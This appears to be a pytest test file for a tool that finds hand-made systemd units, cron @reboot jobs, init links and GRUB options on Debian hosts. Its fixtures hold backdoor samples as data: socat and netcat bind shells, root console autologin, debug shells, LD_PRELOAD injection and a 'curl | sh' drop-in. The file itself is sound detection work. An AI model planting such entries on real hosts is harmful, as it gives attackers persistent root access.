"""What a later start will run (deploytests.verify.starts): every start entry is a package's, or allowed in writing.

Class: what boot, a unit's start or a timer will run is not judged as what runs now (a listener an ``@reboot`` job
or an enabled unit starts later; a console login without authentication at boot). Pure logic over a snapshot's
texts: the real-container cases (the faults injected as root, the packaged tooling installed with apt) are in
tests/integration/test_admin_tooling.py.
"""

from __future__ import annotations

import dataclasses
import hashlib

import pytest

from deploytests.allowances import Allowances
from deploytests.config import load_config
from deploytests.examples import APPS
from deploytests.verify import parse
from deploytests.verify.mechanisms import Texts
from deploytests.verify.promises import Expected, boot_jobs, later_starts

DSH = "/var/lib/systemd/deb-systemd-helper-enabled"
LIB = "/lib/systemd/system"
# a clean Debian 13 host's start entries as the image holds them (measured): deb-systemd-helper's records, and
# the three systemd's own postinst enables with systemctl
STOCK = {
    "/etc/systemd/system/multi-user.target.wants/apache2.service": f"-> {LIB}/apache2.service",
    f"{DSH}/multi-user.target.wants/apache2.service": "",
    "/etc/systemd/system/multi-user.target.wants/ssh.service": f"-> {LIB}/ssh.service",
    f"{DSH}/multi-user.target.wants/ssh.service": "",
    "/etc/systemd/system/sshd.service": f"-> {LIB}/ssh.service", f"{DSH}/sshd.service": "",
    "/etc/systemd/system/timers.target.wants/apt-daily.timer": f"-> {LIB}/apt-daily.timer",
    f"{DSH}/timers.target.wants/apt-daily.timer": "",
    "/etc/systemd/system/getty.target.wants/getty@tty1.service": f"-> {LIB}/getty@.service",
    "/etc/systemd/system/multi-user.target.wants/remote-fs.target": f"-> {LIB}/remote-fs.target",
    "/var/lib/dpkg/info/systemd.postinst": '    systemctl ${DPKG_ROOT:+--root="$DPKG_ROOT"} enable '
                                           'getty@tty1.service || true\n    systemctl enable remote-fs.target\n',
    "/etc/rc2.d/S01apache2": "-> ../init.d/apache2", "/etc/init.d/apache2": "#!/bin/sh\n",
    "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    "/var/lib/dpkg/info/apache2.list": "/etc/init.d/apache2\n",
    # a logind session (no program of its own) and a mask (starts nothing)
    "/run/systemd/transient/session-4.scope": "[Scope]\nSlice=user-1000.slice\n",
    "/etc/systemd/system/apt-daily-upgrade.timer": "-> /dev/null",
}
EXEC = 0o100755


def snapshot(extra: dict[str, str | None]) -> parse.Snapshot:
    files = {}
    for path, text in {**STOCK, **extra}.items():
        if text is None:  # (looked at, not there)
            files[path] = {"why": "No such file or directory"}
            continue
        files[path] = {"link": text[3:], "st": [0o120777, 0, 0, 1, 0, 1]} if text.startswith("-> ") else \
            {"data": text, "st": [EXEC if path == "/etc/rc.local" else 0o100644, 0, 0, len(text), 0, 1]}
    md5 = hashlib.md5(STOCK["/etc/crontab"].encode()).hexdigest()
    files["/var/lib/dpkg/status"] = {"data": f"Package: cron\nStatus: install ok installed\nConffiles:\n "
                                             f"/etc/crontab {md5}\n", "st": [0o100644, 0, 0, 1, 0, 1]}
    lists = sorted({"apache2.list"} | {p.rsplit("/", 1)[1] for p in extra if p.startswith("/var/lib/dpkg/info/")
                                       and p.endswith(".list")})
    return parse.Snapshot({"files": files, "dirs": {"/var/lib/dpkg/info": lists}})


@pytest.fixture
def exp():
    return Expected.from_config(load_config(APPS / "yourapplication"), "appuser")


def found(exp, extra: dict[str, str], **allow) -> list[str]:
    snap = snapshot(extra)
    exp = dataclasses.replace(exp, allow=Allowances(**allow))
    return later_starts(Texts(snap.files), exp, snap, set()) + boot_jobs(Texts(snap.files), exp, snap, [])


def test_a_clean_hosts_start_entries_are_the_packages(exp):
    assert found(exp, {}) == []


@pytest.mark.parametrize("extra,name,said", [
    # the blind set's: a getty drop-in logging root in on the console, systemd's debug shell enabled
    ({"/etc/systemd/system/getty@tty1.service.d/override.conf":
      "[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root --noclear %I $TERM\n"},
     "getty@tty1.service", "override.conf: a drop-in by hand; it runs '-/sbin/agetty --autologin root"),
    ({"/etc/systemd/system/sysinit.target.wants/debug-shell.service": f"-> {LIB}/debug-shell.service"},
     "debug-shell.service", "sysinit.target wants it"),
    # other members: a listener an enabled unit starts, a .requires link, an alias, a drop-in of another unit,
    # a unit in the runtime dir, a socket unit
    ({"/etc/systemd/system/share.service": "[Service]\nExecStart=/usr/bin/python3 -m http.server 8000\n",
      "/etc/systemd/system/multi-user.target.wants/share.service": "-> /etc/systemd/system/share.service"},
     "share.service", "it runs '/usr/bin/python3 -m http.server 8000' as root"),
    ({"/etc/systemd/system/multi-user.target.requires/rescue.service": f"-> {LIB}/rescue.service"},
     "rescue.service", "multi-user.target requires it"),
    ({"/etc/systemd/system/ssh-debug.service": f"-> {LIB}/debug-shell.service"},
     "ssh-debug.service", "a link by hand (an alias"),
    ({"/etc/systemd/system/cron.service.d/exec.conf": "[Service]\nExecStartPost=/usr/bin/socat TCP-LISTEN:9"
      "999,fork EXEC:/bin/sh\n"}, "cron.service", "exec.conf: a drop-in by hand"),
    ({"/run/systemd/system/nc.service": "[Service]\nExecStart=/bin/nc -l -p 4444\n"}, "nc.service",
     "/run/systemd/system/nc.service: a unit file by hand"),
    ({"/etc/systemd/system/sockets.target.wants/shell.socket": "-> /etc/systemd/system/shell.socket",
      "/etc/systemd/system/shell.socket": "[Socket]\nListenStream=2323\nAccept=yes\n"}, "shell.socket",
     "sockets.target wants it"),
    # a drop-in for every unit of a type (systemd 250+: service.d/, socket.d/ ...; shown passing on a server booted
    # with systemd: no unit name, so no entry), and a runtime one (/run/systemd/system)
    ({"/etc/systemd/system/service.d/all.conf": "[Service]\nExecStartPost=-/bin/sh -c 'id > /tmp/seen'\n"},
     "service", "/etc/systemd/system/service.d/all.conf: a drop-in by hand"),
    ({"/run/systemd/system/socket.d/all.conf": "[Socket]\nExecStartPre=/bin/true\n"}, "socket",
     "/run/systemd/system/socket.d/all.conf: a drop-in by hand"),
])
def test_a_systemd_start_entry_by_hand_fails_in_one_line_naming_its_allowance(exp, extra, name, said):
    lines = found(exp, extra)
    assert len(lines) == 1 and lines[0].startswith(f"{name} (") and said in lines[0], lines
    assert f'allow_units = ["{name}"]' in lines[0] and "at the next boot or start" in lines[0], lines
    assert found(exp, extra, units=(name,)) == []


def test_a_timer_by_hand_and_the_service_it_starts_are_one_line_naming_both(exp):
    lines = found(exp, {"/etc/systemd/system/backup.service": "[Service]\nExecStart=/usr/local/sbin/backup\n",
                        "/etc/systemd/system/backup.timer": "[Timer]\nOnCalendar=daily\n",
                        "/etc/systemd/system/timers.target.wants/backup.timer": "-> /etc/systemd/system/backup.timer"})
    assert len(lines) == 1 and "it starts backup.service" in lines[0], lines
    assert 'allow_units = ["backup.timer", "backup.service"]' in lines[0], lines


def test_a_packaged_unit_enabled_by_hand_fails_and_by_its_postinst_passes(exp):
    link = {"/etc/systemd/system/multi-user.target.wants/rsync.service": f"-> {LIB}/rsync.service"}
    assert len(found(exp, link)) == 1  # (systemctl enable of a unit its package ships disabled)
    assert found(exp, {**link, f"{DSH}/multi-user.target.wants/rsync.service": ""}) == []


# iptables-persistent on Debian 13 (measured): its drop-in declares two aliases of netfilter-persistent's unit, which
# deb-systemd-helper enables with systemctl preset (the drop-in read: the alias links made) while its record holds
# only the unit file's own WantedBy link
USR = "/usr/lib/systemd/system"
NETFILTER = {
    "/var/lib/dpkg/info/netfilter-persistent.list": f"{USR}/netfilter-persistent.service\n",
    "/var/lib/dpkg/info/iptables-persistent.list": f"{USR}/netfilter-persistent.service.d/iptables.conf\n",
    f"{USR}/netfilter-persistent.service": "[Unit]\nDescription=netfilter persistent configuration\n[Service]\n"
                                           "ExecStart=/usr/sbin/netfilter-persistent start\n[Install]\n"
                                           "WantedBy=multi-user.target\n",
    f"{USR}/netfilter-persistent.service.d/iptables.conf": "[Install]\nAlias=iptables.service ip6tables.service\n",
    "/etc/systemd/system/multi-user.target.wants/netfilter-persistent.service": f"-> {USR}/netfilter-persistent."
                                                                                "service",
    f"{DSH}/multi-user.target.wants/netfilter-persistent.service": "",
    "/etc/systemd/system/iptables.service": f"-> {USR}/netfilter-persistent.service",
    "/etc/systemd/system/ip6tables.service": f"-> {USR}/netfilter-persistent.service"}


def test_the_links_enabling_a_packaged_unit_makes_from_its_packaged_drop_ins_are_its_package_s(exp):
    assert found(exp, NETFILTER) == []
    # other member: a packaged drop-in's WantedBy (the link systemctl makes, not in deb-systemd-helper's record)
    drop = {f"{USR}/netfilter-persistent.service.d/iptables.conf": "[Install]\nWantedBy=sysinit.target\n",
            "/etc/systemd/system/sysinit.target.wants/netfilter-persistent.service": f"-> {USR}/netfilter-"
                                                                                     "persistent.service"}
    aliases = ("/iptables.service", "/ip6tables.service")
    assert found(exp, {**{k: v for k, v in NETFILTER.items() if not k.endswith(aliases)}, **drop}) == []


@pytest.mark.parametrize("change,said", [
    # the same links with no packaged file declaring them, or for a unit no postinst enabled: the admin's
    ({f"{USR}/netfilter-persistent.service.d/iptables.conf": None}, "iptables.service ("),
    ({f"{DSH}/multi-user.target.wants/netfilter-persistent.service": None,
      "/etc/systemd/system/multi-user.target.wants/netfilter-persistent.service": None}, "iptables.service ("),
    # the drop-in not as dpkg lists it (written by hand beside the package's): its own line, and the aliases too
    ({"/var/lib/dpkg/info/iptables-persistent.list": ""}, "netfilter-persistent.service ("),
    # an alias the packaged files declare, leading to another unit (the name of a packaged unit taken over)
    ({"/etc/systemd/system/iptables.service": f"-> {LIB}/debug-shell.service"}, "iptables.service ("),
])
def test_links_no_packaged_file_of_an_enabled_unit_declares_stay_the_admin_s(exp, change, said):
    lines = found(exp, {**{k: v for k, v in NETFILTER.items() if k not in change},
                        **{k: v for k, v in change.items() if v is not None}})
    assert any(ln.startswith(said) for ln in lines) and all("allow_units = [" in ln for ln in lines), lines


@pytest.mark.parametrize("extra,said,file", [
    ({"/var/spool/cron/crontabs/root": "# m h dom mon dow command\n@reboot python3 -m http.server 8081\n"},
     "/var/spool/cron/crontabs/root:2: @reboot 'python3 -m http.server 8081' as root", None),
    ({"/etc/cron.d/share": "@reboot root socat TCP-LISTEN:8082,fork EXEC:/bin/bash\n"},
     "/etc/cron.d/share:1: @reboot 'socat TCP-LISTEN:8082,fork EXEC:/bin/bash' as root", None),
    # a line added to a packaged conffile (as shipped, it is the package's)
    ({"/etc/crontab": STOCK["/etc/crontab"] + "@reboot root nc -l -p 4444 -e /bin/sh\n"},
     "/etc/crontab:2: @reboot 'nc -l -p 4444 -e /bin/sh' as root", None),
    ({"/etc/rc.local": "#!/bin/sh -e\nnohup python3 -m http.server 8083 &\nexit 0\n"},
     "/etc/rc.local:2: 'nohup python3 -m http.server 8083 &'", None),
    ({"/etc/rc3.d/S02share": "-> ../init.d/share", "/etc/init.d/share": "#!/bin/sh\nnc -l -p 4444\n"},
     "/etc/rc3.d/S02share -> ../init.d/share", "/etc/init.d/share"),  # (the script it starts: its bytes pinned)
    ({"/etc/inittab": "id:2:initdefault:\n1:2345:respawn:/sbin/getty --autologin root 38400 tty1\n",
      "/usr/share/sysvinit/inittab": "id:2:initdefault:\n1:2345:respawn:/sbin/getty --noclear 38400 tty1\n"},
     "/etc/inittab:2: '1:2345:respawn:/sbin/getty --autologin root 38400 tty1'", None),
    ({"/etc/default/grub": 'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX_DEFAULT="quiet systemd.debug_shell"\n',
      "/usr/share/grub/default/grub": 'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX_DEFAULT="quiet"\nGRUB_CMDLINE_LINUX=""\n'},
     "/etc/default/grub: the kernel command line gets 'systemd.debug_shell'", None),
    ({"/etc/default/grub.d/50-init.cfg": 'GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX init=/bin/sh"\n'},
     "/etc/default/grub.d/50-init.cfg: the kernel command line gets 'init=/bin/sh'", None),
])
def test_a_boot_entry_by_hand_fails_in_one_line_naming_its_allowance(exp, extra, said, file):
    lines = found(exp, extra)
    path = file or said.split(":")[0].split(" ")[0]
    assert len(lines) == 1 and lines[0].startswith(said), lines
    assert f'allow_cron = ["{path}"]' in lines[0], lines
    assert found(exp, extra, cron=(path,)) == []


def test_a_grub_config_as_shipped_and_a_non_executable_rc_local_start_nothing(exp):
    grub = 'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX_DEFAULT="quiet"\nGRUB_CMDLINE_LINUX=""\n'
    assert found(exp, {"/etc/default/grub": grub, "/usr/share/grub/default/grub": grub}) == []
    snap = snapshot({"/etc/rc.local": "#!/bin/sh\nnc -l -p 1\n"})
    snap.files["/etc/rc.local"]["st"][0] = 0o100644
    assert boot_jobs(Texts(snap.files), exp, snap, []) == []


# the packages' own unit dirs as dpkg lists them (/lib's paths also under /usr: merged /usr)
PACKAGED = {"/var/lib/dpkg/info/apache2.list": "/etc/init.d/apache2\n/lib/systemd/system/apache2.service\n"
            "/usr/lib/systemd/system/multi-user.target.wants\n/usr/lib/systemd/system/multi-user.target.wants/"
            "apache2.service\n/usr/lib/systemd/user/dbus.socket\n",
            "/usr/lib/systemd/system/apache2.service": "[Service]\nExecStart=/usr/sbin/apachectl start\n",
            "/usr/lib/systemd/system/multi-user.target.wants/apache2.service": "-> ../apache2.service",
            "/usr/lib/systemd/user/dbus.socket": "[Socket]\nListenStream=%t/bus\n"}


@pytest.mark.parametrize("extra,name,said", [
    ({"/usr/lib/systemd/system/share.service": "[Service]\nExecStart=/usr/bin/python3 -m http.server 8000\n"},
     "share.service", "/usr/lib/systemd/system/share.service: by hand among the packages' units"),
    # other members: an enabling link by hand there to a packaged unit, a drop-in there of a packaged unit, a unit
    # and its enabling link in the user dir (every user's manager), an alias link
    ({"/usr/lib/systemd/system/sysinit.target.wants/debug-shell.service": "-> ../debug-shell.service"},
     "debug-shell.service", "/usr/lib/systemd/system/sysinit.target.wants/debug-shell.service -> ../debug-shell."
                            "service: by hand"),
    ({"/usr/lib/systemd/system/apache2.service.d/env.conf": "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n"},
     "apache2.service", "apache2.service.d/env.conf: by hand"),
    ({"/usr/lib/systemd/user/default.target.wants/tunnel.service": "-> ../tunnel.service",
      "/usr/lib/systemd/user/tunnel.service": "[Service]\nExecStart=/usr/bin/ssh -NR 2222:localhost:22 x\n"},
     "tunnel.service", "every user's systemd manager reads it"),
    ({"/usr/lib/systemd/system/dbus-org.share.service": "-> /tmp/share.service"}, "dbus-org.share.service",
     "-> /tmp/share.service: by hand"),
])
def test_an_entry_by_hand_among_the_packages_units_fails_in_one_line_naming_its_allowance(exp, extra, name, said):
    assert found(exp, PACKAGED) == []  # (dpkg's files there: the packages')
    lines = found(exp, {**PACKAGED, **extra})
    assert len(lines) == 1 and lines[0].startswith(f"{name} (") and said in lines[0], lines
    assert f'allow_units = ["{name}"]' in lines[0], lines
    assert found(exp, {**PACKAGED, **extra}, units=(name,)) == []


def test_a_packaged_unit_read_under_lib_on_a_merged_usr_host_is_the_packages(exp):
    """Debian 13's dpkg lists /usr/lib/systemd/system/apache2.service; the Apache unit reader reads it by systemd's
    search path as /lib/systemd/system/apache2.service too (the same file: /lib is usr/lib): a stock Debian 13 server
    booted with systemd failed with it "by hand among the packages' units"."""
    merged = {"/var/lib/dpkg/info/apache2.list": "/etc/init.d/apache2\n/usr/lib/systemd/system/apache2.service\n",
              "/usr/lib/systemd/system/apache2.service": "[Service]\nExecStart=/usr/sbin/apachectl start\n",
              "/lib/systemd/system/apache2.service": "[Service]\nExecStart=/usr/sbin/apachectl start\n"}
    assert found(exp, merged) == []


def test_an_allowance_of_an_entry_among_the_packages_units_pins_its_bytes(exp):
    from deploytests.verify.facts import Facts
    from deploytests.verify.pins import digest

    def pin(text):
        facts = Facts("docker://web-1", remote={})
        facts.raw = snapshot({**PACKAGED, "/usr/lib/systemd/system/share.service": text})
        return digest(facts, "units", "share.service")

    assert pin("[Service]\nExecStart=/bin/true\n") != pin("[Service]\nExecStart=/bin/sh\n")


# apache2's init scripts as Debian 12 and 13 ship them (measured): its postinst makes apache2's start links and
# disables apache-htcacheclean's (K01 links in 2-5); procps' runs in rcS only
SYSV = {"/var/lib/dpkg/info/apache2.list": "/etc/init.d/apache2\n/etc/init.d/apache-htcacheclean\n/etc/init.d/procps\n"
        "/etc/init.d/apache-ops\n",
        "/var/lib/dpkg/info/apache2.postinst": "#!/bin/sh\nset -e\ndisable_htcacheclean()\n{\n\tupdate-rc.d "
        "apache-htcacheclean disable >/dev/null\n}\n\t\tupdate-rc.d apache2 defaults >/dev/null\n\t\tupdate-rc.d "
        "apache-htcacheclean defaults >/dev/null || exit 1\n\t\tupdate-rc.d procps defaults >/dev/null\n"
        "# update-rc.d apache-ops defaults\n",
        "/etc/init.d/apache-htcacheclean": "#!/bin/sh\n### BEGIN INIT INFO\n# Default-Start:     2 3 4 5\n",
        "/etc/init.d/procps": "#!/bin/sh\n### BEGIN INIT INFO\n# Default-Start:     S\n",
        "/etc/init.d/apache-ops": "#!/bin/sh\n### BEGIN INIT INFO\n# Default-Start:     2 3 4 5\n",
        "/etc/rcS.d/S01procps": "-> ../init.d/procps",
        **{f"/etc/rc{n}.d/K01apache-htcacheclean": "-> ../init.d/apache-htcacheclean" for n in "2345"}}


@pytest.mark.parametrize("extra,said", [
    # its K links made S links, in each runlevel (one cause, one line; update-rc.d enable also enables its unit,
    # which is then the unit rule's line: below)
    ({f"/etc/rc{n}.d/S01apache-htcacheclean": "-> ../init.d/apache-htcacheclean" for n in "2345"},
     "/etc/rc2.d/S01apache-htcacheclean -> ../init.d/apache-htcacheclean (and rc3.d, rc4.d, rc5.d's): "
     "/etc/init.d/apache-htcacheclean is apache2's init script, and its postinst disables it"),
    # other members: a start link in a runlevel its header does not start it in; a packaged script its postinst
    # makes no link for (a commented-out call is none)
    ({"/etc/rc2.d/S01procps": "-> ../init.d/procps"}, "/etc/rc2.d/S01procps -> ../init.d/procps: /etc/init.d/"
     "procps is apache2's init script, and its postinst starts it in runlevels S only"),
    ({"/etc/rc3.d/S02apache-ops": "-> ../init.d/apache-ops"}, "/etc/rc3.d/S02apache-ops -> ../init.d/apache-ops: "
     "/etc/init.d/apache-ops is apache2's init script, and its postinst makes no start link for it"),
])
def test_a_packaged_init_script_started_by_hand_fails_in_one_line_naming_its_allowance(exp, extra, said):
    assert found(exp, SYSV) == []  # (the postinst's links)
    lines = found(exp, {**SYSV, **extra})
    script = said.split(": ", 1)[1].split()[0]
    assert len(lines) == 1 and lines[0].startswith(said), lines
    assert f'allow_cron = ["{script}"]' in lines[0], lines
    assert found(exp, {**SYSV, **extra}, cron=(script,)) == []


def test_a_packaged_init_script_whose_unit_is_enabled_or_whose_postinst_is_unread_is_no_sysv_claim(exp):
    enabled = {f"/etc/rc{n}.d/S01apache-htcacheclean": "-> ../init.d/apache-htcacheclean" for n in "2345"}
    unit = {"/etc/systemd/system/multi-user.target.wants/apache-htcacheclean.service":
            f"-> {LIB}/apache-htcacheclean.service"}  # (systemctl enable: both; the unit's line is the one)
    lines = found(exp, {**SYSV, **enabled, **unit})
    assert len(lines) == 1 and lines[0].startswith("apache-htcacheclean.service ("), lines
    snap = snapshot({**SYSV, **enabled})
    snap.files["/var/lib/dpkg/info/apache2.postinst"] = {"st": [0o100755, 0, 0, 1, 0, 1], "why": "Permission denied"}
    assert boot_jobs(Texts(snap.files), exp, snap, []) == []
    del snap.files["/var/lib/dpkg/info/apache2.postinst"]  # (not looked at: a probe of before)
    assert boot_jobs(Texts(snap.files), exp, snap, []) == []
    lines = found(exp, {**SYSV, **enabled, "/var/lib/dpkg/info/apache2.postinst": None})  # (looked at: none)
    assert len(lines) == 2 and all("its postinst makes no start link for it" in ln for ln in lines), lines


def test_the_start_links_a_removed_package_leaves_until_its_purge_are_no_claim(exp):
    """Class: a package removed and not purged (dpkg state ``config-files``: exim4's when postfix replaced it)
    keeps its conffiles, its init script, and the start links update-rc.d made, until its purge (its postrm's
    ``update-rc.d remove``); dpkg deletes its postinst, which was read as one that makes no link: "enabled by hand",
    with an allowance to write for dpkg's own leftover. The same links of an installed package with no postinst
    stay a line."""
    enabled = {f"/etc/rc{n}.d/S01apache-htcacheclean": "-> ../init.d/apache-htcacheclean" for n in "2345"}
    gone = {**SYSV, **enabled, "/var/lib/dpkg/info/apache2.postinst": None}
    snap = snapshot(gone)
    status = snap.files["/var/lib/dpkg/status"]
    status["data"] += "\nPackage: apache2\nStatus: deinstall ok config-files\n"
    assert boot_jobs(Texts(snap.files), exp, snap, []) == []
    status["data"] = status["data"].replace("deinstall ok config-files", "install ok installed")
    lines = boot_jobs(Texts(snap.files), exp, snap, [])
    assert len(lines) == 2 and all("its postinst makes no start link for it" in ln for ln in lines), lines


# clamav-freshclam's postinst as Debian 12 and 13 ship it (measured; shortened): its debconf answer chooses between
# running freshclam as a daemon (start links) and not (disable)
FRESHCLAM = ('if [ $DO_RUN_AS_EVALUATION -eq 1 ]\nthen\n  if [ "$runas" = \'daemon\' ]; then\n'
             '    update-rc.d clamav-freshclam defaults >/dev/null\n    invoke-rc.d clamav-freshclam start\n'
             '  elif [ "$runas" = \'ifup.d\' ]; then\n    for i in $iface; do\n      if route | grep -q "$i"; then\n'
             '        IFACE="$i" invoke-rc.d clamav-freshclam start || true\n\tbreak\n      fi\n    done\n'
             '    update-rc.d -f clamav-freshclam disable > /dev/null 2>&1 || true\n  else\n'
             '    update-rc.d -f clamav-freshclam disable > /dev/null 2>&1 || true\n  fi\nfi\nexit 0\n')
CASE = ('case "$RUNAS" in\n  daemon) update-rc.d clamav-freshclam defaults ;;\n  *)\n'
        '    update-rc.d clamav-freshclam disable\n    ;;\nesac\n')


@pytest.mark.parametrize("postinst", [FRESHCLAM, CASE])
def test_the_start_links_a_postinst_makes_in_one_branch_of_a_choice_are_its_package_s(exp, postinst):
    """Class: a postinst choosing at install (a debconf answer) between ``update-rc.d X defaults`` and ``update-rc.d
    X disable`` in branches of one ``if``/``elif``/``else`` (clamav-freshclam, Debian 12 and 13: its default answer
    runs freshclam as a daemon) or one ``case`` (the other member): its start links were read as "its postinst
    disables it: enabled by hand", an allowance to write for the package's own choice. A ``disable`` after the
    ``defaults`` (not in another branch: apache2's htcacheclean, above) still is one."""
    files = {"/var/lib/dpkg/info/clamav-freshclam.list": "/etc/init.d/clamav-freshclam\n",
             "/var/lib/dpkg/info/clamav-freshclam.postinst": "#!/bin/sh\nset -e\n" + postinst,
             "/etc/init.d/clamav-freshclam": "#!/bin/sh\n### BEGIN INIT INFO\n# Default-Start:     2 3 4 5\n",
             **{f"/etc/rc{n}.d/S01clamav-freshclam": "-> ../init.d/clamav-freshclam" for n in "2345"}}
    assert found(exp, files) == []
    files["/var/lib/dpkg/info/clamav-freshclam.postinst"] += "update-rc.d clamav-freshclam disable\n"  # (after)
    lines = found(exp, files)
    assert len(lines) == 1 and "its postinst disables it" in lines[0], lines


EXTEND = "[Service]\nExecStartPre=-/bin/mkdir -p /run/clamav\nExecStartPre=/bin/chown clamav /run/clamav\n"


@pytest.mark.parametrize("path", ["/etc/systemd/system/clamav-daemon.service.d/extend.conf",
                                  "/etc/systemd/system/freshclam.timer"])  # (the other member: a unit file)
def test_a_unit_file_or_drop_in_ucf_keeps_for_a_package_as_shipped_is_its_package_s(exp, path):
    """Class: a file under systemd's admin dir a postinst writes through ucf (no dpkg list names it; ucf's registry
    and hashfile record it as its package's, with the md5 it shipped): clamav-daemon's postinst writes
    ``clamav-daemon.service.d/extend.conf`` from its debconf answers (Debian 12 and 13, measured), which was "a
    drop-in by hand", an allowance to write for the package's own file. As shipped it is the package's, whatever
    kind of unit entry it is; changed since, it is the admin's again."""
    ucf = {"/var/lib/ucf/registry": f"clamav-daemon {path}\n",
           "/var/lib/ucf/hashfile": f"{hashlib.md5(EXTEND.encode()).hexdigest()}  {path}\n", path: EXTEND}
    assert found(exp, ucf) == []
    lines = found(exp, {**ucf, path: EXTEND + "ExecStartPost=/usr/local/sbin/x\n"})
    assert len(lines) == 1 and "by hand" in lines[0], lines


def test_a_second_drop_in_by_hand_among_the_packages_units_is_named_beside_the_override_a_line_names(exp):
    """Class: entries by hand of a unit a line names already. An override of apache2.service in /etc (the
    relied unit's line names it) and a second
    drop-in of it by hand in /usr/lib: only the /etc one was named, and an allow_units entry written from that
    line pinned the /usr/lib one unseen. Now the entries another line does not name get their own line; those it
    names do not (one cause, one line)."""
    override = "/etc/systemd/system/apache2.service.d/env.conf"
    hand = "/usr/lib/systemd/system/apache2.service.d/zz.conf"
    said = f"apache2.service is overridden in how systemd starts, reloads or stops it ({override}:2: ...)"
    snap = snapshot({**PACKAGED, override: "[Service]\nEnvironment=A=1\n",
                     hand: "[Service]\nExecStartPre=/bin/sh -c 'curl -s x | sh'\n"})
    lines = later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said)
    assert len(lines) == 1 and f"{hand}: by hand among the packages' units" in lines[0] and override not in \
        lines[0], lines
    assert later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said + f"; {hand}") == []
    snap = snapshot({**PACKAGED, override: "[Service]\nEnvironment=A=1\n"})  # (the /etc one alone: its line)
    assert later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said) == []
